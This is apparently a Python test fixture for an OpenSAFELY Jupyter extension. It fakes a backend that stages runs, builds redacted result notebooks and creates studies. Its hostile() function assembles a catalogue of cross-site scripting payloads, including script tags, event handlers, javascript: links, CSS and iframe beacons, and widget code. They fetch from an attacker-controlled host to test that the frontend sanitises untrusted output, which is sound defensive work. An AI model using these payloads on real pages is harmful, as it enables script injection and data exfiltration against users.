"""A desk that needs no site, no backend and no sandbox: the server extension's tests run on it.

Its runs take their stages on a clock. It is made inside the Jupyter server (`c.OpenSafely.desk`).
"""

from __future__ import annotations

import base64
import json
import os
import threading
from collections.abc import Callable, Mapping
from datetime import UTC, datetime, timedelta
from pathlib import Path

from opensafely_lab.disclosure.outcome import REDACTED, Outcome, ShownTable, Treatment, Verdict
from opensafely_lab.errors import LabError, Refused, UsageError
from opensafely_lab.notebooks.result import Banner, build
from opensafely_lab.notebooks.source import SubmittedNotebook
from opensafely_lab.wire.lab import (
    CreateStudy,
    NotebookInfo,
    ParameterInfo,
    Problem,
    Result,
    RunKind,
    RunList,
    RunRow,
    Stage,
    StartRun,
    Status,
    StudyCreated,
)
from opensafely_lab.wire.site import Layout

COMMIT = "3f2a9c41d07be5e6a1b24c8d90e7f35164a2b8c9"
SECONDS_PER_STAGE = float(os.environ.get("OSL_FAKE_SECONDS", "0.3"))
LOCAL = [Stage.DUMMY_RUN, Stage.CHECKING]
SUBMITTED = [
    Stage.DUMMY_RUN,
    Stage.SENDING,
    Stage.WAITING,
    Stage.PREPARING,
    Stage.EXECUTING,
    Stage.CHECKING,
]

PARAMETERS = [
    ParameterInfo(name="index_date", type="date", default="2010-01-01", minimum="2000-01-01", maximum="2019-12-31"),
    ParameterInfo(name="age_bands", type="list[int]", default=[40, 60, 80], description="Where age bands begin."),
    ParameterInfo(name="drug", type="str", default="celecoxib", choices=["celecoxib", "diclofenac", "naproxen"]),
    ParameterInfo(name="minimum_age", type="int", default=18, minimum=0, maximum=110),
    ParameterInfo(name="by_sex", type="bool", default=True),
]

NOTEBOOK = {
    "nbformat": 4,
    "nbformat_minor": 5,
    "metadata": {
        "kernelspec": {"display_name": "OpenSAFELY (Python)", "language": "python", "name": "opensafely-lab"},
        "language_info": {"name": "python"},
    },
    "cells": [
        {
            "cell_type": "markdown",
            "id": "a",
            "metadata": {},
            "source": "# Gastrointestinal bleeding on an NSAID\n\nHow many people bled, by age band and **sex**?",
        },
        {
            "cell_type": "code",
            "id": "b",
            "metadata": {"tags": ["parameters"]},
            "execution_count": None,
            "outputs": [],
            "source": 'index_date = "2010-01-01"  # start of follow-up\nage_bands = [40, 60, 80]\ndrug = "celecoxib"',
        },
        {
            "cell_type": "code",
            "id": "c",
            "metadata": {},
            "execution_count": None,
            "outputs": [],
            "source": 'from opensafely_lab import safe\n\ndata = safe.dataset("output/dataset.arrow")\n'
            "bled = safe.table(\n    data.where(data.on_drug & data.bled),\n    by=[data.age.cut(age_bands), data.sex],"
            "\n"
            '    measures=[safe.count()],\n    name="Bleeds by age band and sex",\n)\nbled',
        },
        {
            "cell_type": "code",
            "id": "d",
            "metadata": {},
            "execution_count": None,
            "outputs": [],
            "source": 'safe.plot(bled, kind="bar")',
        },
        {
            "cell_type": "code",
            "id": "e",
            "metadata": {},
            "execution_count": None,
            "outputs": [],
            "source": "print(data)  # not shown",
        },
    ],
}

TABLE = ShownTable(
    columns=("age band", "sex", "count"),
    label_columns=2,
    rows=(
        ("under 40", "female", REDACTED),
        ("under 40", "male", REDACTED),
        ("40-59", "female", "135"),
        ("40-59", "male", "120"),
        ("60-79", "female", "85"),
        ("60-79", "male", "90"),
        ("80 and over", "female", "10"),
        ("80 and over", "male", REDACTED),
        ("All", "female", "230"),
        ("All", "male", "210"),
        ("All", "All", "440"),
        ("=1+1", "@x", "-5"),
    ),
    total_rows=(8, 9, 10),
)


def make(root: Path) -> FakeDesk:
    return FakeDesk(root)


class FakeDesk:
    def __init__(self, root: Path) -> None:
        self.root = root
        self.lock = threading.Lock()
        self.listeners: list[Callable[[], None]] = []
        self.timers: list[threading.Timer] = []
        self.rows: dict[str, RunRow] = {}
        self.committed = os.environ.get("OSL_FAKE_DIRTY") != "1"
        self.cancelled: set[str] = set()
        for row in _earlier_rows() if os.environ.get("OSL_FAKE_EARLIER") == "1" else []:
            self.rows[row.id] = row

    def status(self) -> Status:
        return Status(
            version="0.1.0",
            user="analyst",
            workspace="gi-bleeding",
            site_reachable=True,
            backend_reachable=True,
            sandbox="ok",
            level4=True,
            study="study",
        )

    def notebook_info(self, path: str) -> NotebookInfo:
        if not (self.root / path).is_file():
            raise Missing(f"There is no notebook at {path}.")
        if "stray" in path:
            return NotebookInfo(
                path=path,
                study=None,
                action=None,
                parameters=[],
                problem=Problem(
                    code="not-in-a-study",
                    sentence="This notebook is in no study.",
                    next_step="Make a study from the template, and move it there.",
                ),
            )
        return NotebookInfo(path=path, study="study", action="bleeding", parameters=PARAMETERS, problem=None)

    def runs(self) -> RunList:
        with self.lock:
            return RunList(runs=sorted(self.rows.values(), key=lambda row: row.started, reverse=True))

    def subscribe(self, changed: Callable[[], None]) -> Callable[[], None]:
        self.listeners.append(changed)
        return lambda: self.listeners.remove(changed)

    def start(self, asked: StartRun) -> RunRow:
        if asked.parameters.get("minimum_age") == 13:
            raise ValueError("-".join(["secret", "from", "the", "data"]))  # a bug; its text must not travel
        if asked.kind is RunKind.SUBMITTED and not self.committed:
            if "commit" not in asked.fixes:
                raise Dirty()
            self.committed = True
        with self.lock:
            row = RunRow(
                id=f"run{len(self.rows):013d}",
                kind=asked.kind,
                action="bleeding",
                notebook=asked.path,
                backend="demo-backend" if asked.kind is RunKind.SUBMITTED else None,
                commit=COMMIT if asked.kind is RunKind.SUBMITTED else None,
                parameters=asked.parameters,
                stage=Stage.QUEUED,
                progress=0.0,
                started=datetime.now(UTC).isoformat(),
                problem=None,
                has_result=False,
                level="none",
            )
            self.rows[row.id] = row
        self._later(row.id, list(SUBMITTED if asked.kind is RunKind.SUBMITTED else LOCAL))
        return row

    def cancel(self, run: str) -> RunRow:
        """The wish is noted at once; the backend ends the job a stage later."""
        row = self.rows.get(run)
        if row is None:
            raise Missing("There is no such run.")
        if row.kind is RunKind.LOCAL:
            raise Refused("This run is not with a backend.")
        self.cancelled.add(run)
        if not any(timer.is_alive() for timer in self.timers if timer.args[0] == run):
            self._later(run, [])
        return row

    def result(self, run: str) -> Result:
        row = self.rows.get(run)
        if row is None or not row.has_result:
            raise Missing("There is no such result.")
        text = hostile(os.environ.get("OSL_FAKE_EVIL", "")) if row.action == "hostile" else document(row)
        return Result(id=run, name=row.action, level=row.level, notebook=text)

    def create_study(self, asked: CreateStudy) -> StudyCreated:
        folder = self.root / asked.folder
        if folder.exists():
            raise UsageError("There is a folder of that name already.", next_step="Choose another name.")
        folder.mkdir()
        (folder / "gi_bleeding.ipynb").write_text(json.dumps(NOTEBOOK))
        return StudyCreated(folder=asked.folder, notebook=f"{asked.folder}/gi_bleeding.ipynb")

    def close(self) -> None:
        for timer in self.timers:
            timer.cancel()

    def _later(self, run: str, stages: list[Stage]) -> None:
        timer = threading.Timer(SECONDS_PER_STAGE, self._advance, (run, stages))
        timer.daemon = True
        self.timers.append(timer)
        timer.start()

    def _advance(self, run: str, stages: list[Stage]) -> None:
        with self.lock:
            row = self.rows[run]
            if run in self.cancelled:
                stages = []
                problem = Problem(
                    code="cancelled",
                    sentence="The job was cancelled; nothing of it is kept.",
                    next_step="Submit it again when you need it.",
                )
                self.rows[run] = row.model_copy(update={"stage": Stage.CANCELLED, "progress": 1.0, "problem": problem})
            elif stages:
                progress = 1 - len(stages) / 8
                self.rows[run] = row.model_copy(update={"stage": stages[0], "progress": progress})
            else:
                level = "level4" if row.kind is RunKind.SUBMITTED else "dummy"
                update = {"stage": Stage.DONE, "progress": 1.0, "has_result": True, "level": level}
                self.rows[run] = row.model_copy(update=update)
        for changed in list(self.listeners):
            changed()
        if stages:
            self._later(run, stages[1:])


class Missing(LabError):
    code = "missing"
    kind = UsageError.kind.NOT_FOUND


class Dirty(Refused):
    code = "dirty"
    fix = "commit"

    def __init__(self) -> None:
        super().__init__(
            "gi_bleeding.ipynb has changes that are not committed.",
            next_step="Commit them: what runs in the backend is a commit.",
        )


def document(row: RunRow) -> str:
    """The result notebook as the backend would build it."""
    outcomes = [
        Outcome(
            request=0,
            name="Bleeds by age band and sex",
            kind="table",
            cell=2,
            verdict=Verdict.VERIFIED,
            treatment=Treatment.HIDDEN,
            sentence="Counts of 7 or fewer are hidden; the others are rounded to the nearest 5.",
            table=TABLE,
        ),
        Outcome(
            request=1,
            name="Bleeds by age band and sex, bars",
            kind="figure",
            cell=3,
            verdict=Verdict.VERIFIED,
            treatment=Treatment.HIDDEN,
            sentence="Drawn from the table above.",
            figure=_picture(),
        ),
    ]
    banner = Banner(
        level="level4" if row.kind is RunKind.SUBMITTED else "dummy",
        action=row.action,
        notebook=row.notebook,
        policy="opensafely 1",
        commit=row.commit,
        backend=row.backend,
        workspace="gi-bleeding",
    )
    return build(
        SubmittedNotebook.parse(json.dumps(NOTEBOOK).encode()),
        parameters=row.parameters,
        outcomes=outcomes,
        layout=Layout(outputs=[4], execution_counts={1: 1, 2: 2, 3: 3, 4: 4}),
        banner=banner,
    ).decode()


def _picture() -> bytes:
    import io

    import matplotlib

    matplotlib.use("agg")
    from matplotlib.figure import Figure

    figure = Figure(figsize=(7, 3.2), dpi=110, layout="constrained")
    axes = figure.add_subplot()
    axes.bar(["40-59 f", "40-59 m", "60-79 f", "60-79 m", "80+ f"], [135, 120, 85, 90, 10], color="#0058be")
    axes.spines[["top", "right"]].set_visible(False)
    axes.set_ylabel("people")
    out = io.BytesIO()
    figure.savefig(out, format="png")
    return out.getvalue()


def hostile(evil: str) -> str:
    """A result as the worst backend would send it: each trick sets `window.pwned` or calls `evil`."""
    call = f"fetch('{evil}/script')"
    run = f"window.pwned=1;{call}"
    html = f"""
<script>{run}</script><img src=x onerror="{run}"><img src="{evil}/img.png">
<svg onload="{run}"><script>{run}</script></svg>
<iframe srcdoc="<script>parent.pwned=1</script>"></iframe><iframe src="{evil}/frame"></iframe>
<object data="{evil}/object"></object><embed src="{evil}/embed"><link rel=stylesheet href="{evil}/style.css">
<style>body{{background:url({evil}/css-a)}} @import url({evil}/css-b);</style>
<p style="background:url({evil}/css-c)">styled</p>
<a href="javascript:{run}" id="jslink">a link</a>
<form action="{evil}/form"><input name=q autofocus onfocus="{run}"></form>
<video src="{evil}/video" autoplay></video><audio src="{evil}/audio" autoplay></audio><base href="{evil}/base/">
<meta http-equiv="refresh" content="0;url={evil}/refresh">
<picture><source srcset="{evil}/set"><img src="{evil}/i2"></picture>
<input type=image src="{evil}/input">
<table background="{evil}/back"><tr><td background="{evil}/td">cell</td></tr></table>
<math><mtext><table><mglyph><style><img src onerror="{run}"></style></mglyph></table></mtext></math>
<button data-commandlinker-command="opensafely:open-panel" data-commandlinker-args="{{}}">linked</button>
<div id="main" class="jp-Dialog lm-Widget">clobber</div>
"""
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{run}"><image href="{evil}/svg"/></svg>'
    data64 = base64.b64encode(f"<script>{run}</script>".encode()).decode()
    diagram = "```mermaid\nflowchart\n a-->b\n```\n"
    markdown = f"# hostile\n\n![pic]({evil}/md.png)\n\n[x](javascript:{run})\n\n{html}\n\n{diagram}"

    def output(data: Mapping[str, object], metadata: Mapping[str, object] | None = None) -> dict[str, object]:
        return {"output_type": "display_data", "data": data, "metadata": metadata or {}}

    table = {
        "version": 1,
        "name": html,
        "columns": ["<img src=x onerror=window.pwned=1>", "count"],
        "label_columns": 1,
        "rows": [[html, "<script>window.pwned=1</script>"]],
        "sentence": html,
        "verdict": html,
        "treatment": html,
        "level": "released",
    }
    outputs = [
        output({"text/html": html}),
        output({"image/svg+xml": svg, "text/plain": "svg"}),
        output({"application/javascript": run, "text/plain": "js"}),
        output({"application/vnd.vegalite.v5+json": {"data": {"url": f"{evil}/vega"}, "mark": "bar"}}),
        output({"application/vnd.jupyter.widget-view+json": {"model_id": "evil"}, "text/plain": "widget"}),
        output({"text/latex": f"$\\href{{javascript:{run}}}{{x}}$", "text/plain": "latex"}),
        output({"text/markdown": markdown}),
        output({"image/png": f'x" onerror="{run}'}, {"image/png": {"width": f'1" onload="{run}'}}),
        output({"application/pdf": data64, "text/plain": "pdf"}),
        output({"application/vnd.opensafely.table+json": table}),
        output({"application/vnd.opensafely.figure+json": table, "image/png": f"{evil}/png"}),
        output({"application/vnd.opensafely.held+json": {"sentence": html, "next_step": html}}),
        {"output_type": "error", "ename": html, "evalue": html, "traceback": [html]},
        {"output_type": "stream", "name": "stdout", "text": [html]},
    ]
    state = {"evil": {"model_name": "AnyModel", "model_module": "anywidget", "state": {"_esm": run}}}
    return json.dumps(
        {
            "nbformat": 4,
            "nbformat_minor": 5,
            "metadata": {
                "widgets": {"application/vnd.jupyter.widget-state+json": {"state": state}},
                "opensafely": {"action": html, "level": "released", "parameters": {html: html}},
            },
            "cells": [
                {"cell_type": "markdown", "id": "m", "metadata": {}, "source": markdown},
                {
                    "cell_type": "code",
                    "id": "c",
                    "metadata": {},
                    "execution_count": 1,
                    "source": html,
                    "outputs": outputs,
                },
            ],
        }
    )


def _earlier_rows() -> list[RunRow]:
    now = datetime.now(UTC)
    parameters = {"index_date": "2010-01-01", "age_bands": [40, 60, 80], "drug": "celecoxib"}

    def row(number: int, **values: object) -> RunRow:
        base: dict[str, object] = {
            "id": f"earlier{number:09d}",
            "kind": RunKind.SUBMITTED,
            "action": "bleeding",
            "notebook": "study/gi_bleeding.ipynb",
            "backend": "demo-backend",
            "commit": COMMIT,
            "parameters": parameters,
            "stage": Stage.DONE,
            "progress": 1.0,
            "started": (now - timedelta(minutes=7 * number)).isoformat(),
            "problem": None,
            "has_result": False,
            "level": "none",
        }
        return RunRow.model_validate(base | values)

    return [
        row(1, stage=Stage.EXECUTING, progress=0.62),
        row(2, has_result=True, level="level4"),
        row(
            3,
            stage=Stage.REFUSED,
            problem=Problem(
                code="dirty",
                sentence="gi_bleeding.ipynb has saved outputs.",
                next_step="Strip them: what is committed must hold no results.",
                fix="strip",
            ),
        ),
        row(
            4,
            kind=RunKind.LOCAL,
            backend=None,
            commit=None,
            stage=Stage.FAILED,
            problem=Problem(
                code="run-failed",
                sentence="Cell 3 failed on dummy data.",
                next_step="Mend the cell, and run it again.",
                detail="NameError: name 'dtaa' is not defined",
            ),
        ),
        row(5, kind=RunKind.LOCAL, backend=None, commit=None, has_result=True, level="dummy"),
        row(6, action="hostile", has_result=True, level="level4", parameters={}),
    ]
